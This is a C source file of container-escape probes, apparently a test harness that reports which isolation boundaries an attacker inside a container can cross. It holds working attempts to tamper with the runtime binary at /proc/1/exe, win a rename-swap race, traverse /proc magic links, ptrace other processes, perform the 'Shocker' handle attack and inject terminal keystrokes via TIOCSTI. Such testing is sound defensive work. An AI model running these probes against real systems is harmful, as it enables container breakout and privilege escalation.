// What an attacker inside a container tries. Every verb says what it reached; a verb that says nothing reached nothing.
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static int said(const char *what, long result) {
  if (result < 0) return refused(what);
  printf("%s: ok\n", what);
  return 0;
}

// Until it is killed, or for so many seconds: the two names change places.
int probe_swap(int count, char **args) {
  const char *one = argument(count, args, 0, ""), *other = argument(count, args, 1, "");
  double end = now() + strtod(argument(count, args, 2, "1e9"), NULL);
  printf("swapping\n");
  while (now() < end)
    for (int i = 0; i < 64; i++)
      if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)) return refused("swap");
  return 0;
}

// Everything that may be done to a file through its path, and above all to one's own runtime's program (/proc/1/exe).
int probe_tamper(int count, char **args) {
  int held = open(argument(count, args, 0, "/proc/1/exe"), O_PATH | O_CLOEXEC);
  if (held < 0) return refused("look");
  // The file itself, whatever the path leads to later.
  char path[32], called[256];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  ssize_t size = readlink(path, called, sizeof called - 1);
  called[size > 0 ? size : 0] = 0;
  if (strcmp(called, argument(count, args, 1, called))) return 1;
  static const struct {
    const char *name;
    int flags;
  } ways[] = {{"write", O_WRONLY}, {"read and write", O_RDWR}, {"truncate", O_WRONLY | O_TRUNC}, {"append", O_WRONLY | O_APPEND}};
  for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
    int fd = open(path, ways[i].flags | O_CLOEXEC);
    if (fd < 0) {
      refused(ways[i].name);
      continue;
    }
    said(ways[i].name, write(fd, "#!", 2));
    said("change size", ftruncate(fd, 0));
    close(fd);
  }
  struct stat before;
  if (stat(path, &before)) return refused("stat");
  said("mode", chmod(path, before.st_mode ^ 0111));
  said("set-uid", chmod(path, before.st_mode | 04000));
  said("owner", chown(path, 1000, 1000));
  said("times", utimensat(AT_FDCWD, path, NULL, 0));
  // All capabilities, to be effective at once: who has not all of them may no longer run it (capabilities(7)).
  static const unsigned char all[20] = {1, 0, 0, 2, 255, 255, 255, 255, 0, 0, 0, 0, 255, 255, 255, 255};
  said("file capabilities", setxattr(path, "security.capability", all, sizeof all, 0));
  said("attribute", setxattr(path, "user.x", "x", 1, 0));
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    int flags = FS_IMMUTABLE_FL;
    said("immutable", ioctl(fd, FS_IOC_SETFLAGS, &flags));
    close(fd);
  }
  close(held);
  return 0;
}

static void look_behind(const char *link, const char *wanted) {
  int fd = open(link, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (fd < 0) return;
  struct stat info;
  // Far enough up to leave any directory that a link could lead to.
  char path[512];
  snprintf(path, sizeof path, "../../../../../../../../../../../..%s", wanted);
  int file = fstat(fd, &info) == 0 && S_ISDIR(info.st_mode) ? openat(fd, path, O_RDONLY | O_CLOEXEC) : -1;
  if (file >= 0) {
    printf("reached: %s%s\n", link, wanted);
    close(file);
  }
  close(fd);
}

static uint64_t look_at(const char *pid, const char *wanted) {
  char path[300];
  uint64_t looked = 0;
  static const char *const links[] = {"root", "cwd"};
  for (size_t i = 0; i < sizeof links / sizeof *links; i++, looked++) {
    snprintf(path, sizeof path, "/proc/%s/%s", pid, links[i]);
    look_behind(path, wanted);
  }
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *directory = opendir(path);
  if (!directory) return looked;
  for (struct dirent *entry; (entry = readdir(directory)); looked++) {
    if (*entry->d_name == '.') continue;
    char link[600];
    snprintf(link, sizeof link, "%s/%s", path, entry->d_name);
    look_behind(link, wanted);
  }
  closedir(directory);
  return looked;
}

// The capabilities that a process may use.
static uint64_t permitted(const char *pid) {
  char path[300], text[4096];
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
  if (fd >= 0) close(fd);
  text[size > 0 ? size : 0] = 0;
  const char *at = strstr(text, "CapPrm:");
  return at ? strtoull(at + 7, NULL, 16) : 0;
}

// WANTED SECONDS [ptrace]: through every magic link of every process that comes and goes, again and again.
int probe_links(int count, char **args) {
  const char *wanted = argument(count, args, 0, "/etc/hostname");
  double end = now() + strtod(argument(count, args, 1, "0"), NULL);
  int trace = count > 2;
  uint64_t looked = 0, others = 0;
  printf("looking\n");
  do {
    DIR *all = opendir("/proc");
    if (!all) return refused("/proc");
    for (struct dirent *entry; (entry = readdir(all));) {
      long pid = strtol(entry->d_name, NULL, 10);
      if (pid <= 0) continue;
      if (pid != 1 && pid != getpid()) others++;
      looked += look_at(entry->d_name, wanted);
      if (trace && pid != 1 && pid != getpid() && !ptrace(PTRACE_SEIZE, (pid_t)pid, 0L, 0L)) {
        uint64_t more = permitted(entry->d_name) & ~permitted("self");
        if (more) printf("reached: traced one with %jx\n", (uintmax_t)more);
        // Only who stands still is let go, and who is not let go cannot be waited for by its parent.
        ptrace(PTRACE_INTERRUPT, (pid_t)pid, 0L, 0L);
        waitpid((pid_t)pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, (pid_t)pid, 0L, 0L);
      }
    }
    closedir(all);
  } while (now() < end);
  printf("looked at %ju links of %s\n", (uintmax_t)looked, others ? "others too" : "its own");
  return 0;
}

// Becomes the tracer of a process, and never lets go.
int probe_trace(int count, char **args) {
  if (ptrace(PTRACE_SEIZE, (pid_t)number(argument(count, args, 0, "0")), 0L, 0L)) return refused("trace");
  printf("tracing\n");
  for (;;) pause();
}

static void print_writable(char *path, size_t length, int depth) {
  DIR *directory = depth < 40 ? opendir(path) : NULL;
  if (!directory) return;
  for (struct dirent *entry; (entry = readdir(directory));) {
    if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
    size_t size = length + 1 + strlen(entry->d_name);
    if (size >= 4096 || entry->d_type == DT_LNK) continue;
    snprintf(path + length, 4096 - length, "/%s", entry->d_name);
    // Only asked, not opened: opening some files of the kernel's does things.
    if (!faccessat(AT_FDCWD, path, W_OK, AT_EACCESS)) printf("%s\n", path);
    if (entry->d_type == DT_DIR) print_writable(path, size, depth + 1);
    path[length] = 0;
  }
  closedir(directory);
}

int probe_writable(int count, char **args) {
  static char path[4097];
  snprintf(path, sizeof path, "%s", argument(count, args, 0, "/sys"));
  print_writable(path, strlen(path), 0);
  return 0;
}

// open_by_handle_at with the handle of inode 2, the root of most file systems: "Shocker", 2014.
int probe_handle(int count, char **args) {
  int mount = open(argument(count, args, 0, "/etc/hosts"), O_RDONLY | O_CLOEXEC);
  if (mount < 0) return refused("mount");
  struct {
    struct file_handle head;
    uint32_t inode[2];
  } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .inode = {2, 0}};
  int code = said("open_by_handle_at", open_by_handle_at(mount, &handle.head, O_RDONLY));
  close(mount);
  return code;
}

// Types TEXT into the terminal that it has.
int probe_type(int count, char **args) {
  for (const char *at = argument(count, args, 0, ""); *at; at++)
    if (ioctl(0, TIOCSTI, at)) return refused("TIOCSTI");
  return said("TIOCSTI", 0);
}

// A path, or a name after @: an abstract socket, which knows no mount namespace.
int probe_connect(int count, char **args) {
  const char *name = argument(count, args, 0, "");
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t size = strlen(name);
  if (size >= sizeof address.sun_path) return 2;
  memcpy(address.sun_path, name, size);
  if (*name == '@') address.sun_path[0] = 0;
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return refused("socket");
  int code = said(name, connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + size)));
  close(fd);
  return code;
}
